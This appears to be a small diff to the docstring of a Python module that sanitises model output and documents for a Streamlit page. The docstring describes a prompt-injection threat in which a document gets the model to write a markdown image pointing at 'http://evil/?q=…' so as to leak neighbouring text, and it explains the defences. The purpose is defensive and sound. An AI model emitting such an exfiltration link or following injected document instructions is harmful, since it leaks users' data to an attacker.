@@ -1,6 +1,8 @@
 """Text of models and documents made fit for Streamlit.
 
-No images, web links only, and no formulas where prices were meant. A document can try to send its neighbours' text out by having the model write
+No images, web links only, and no formulas where prices were meant.
+
+A document can try to send its neighbours' text out by having the model write
 `![](http://evil/?q=…)`. Streamlit already draws raw HTML as text; images and links are dealt with
 here, and the page's content policy (page.js) stops the browser from loading anything remote should
 something slip through.
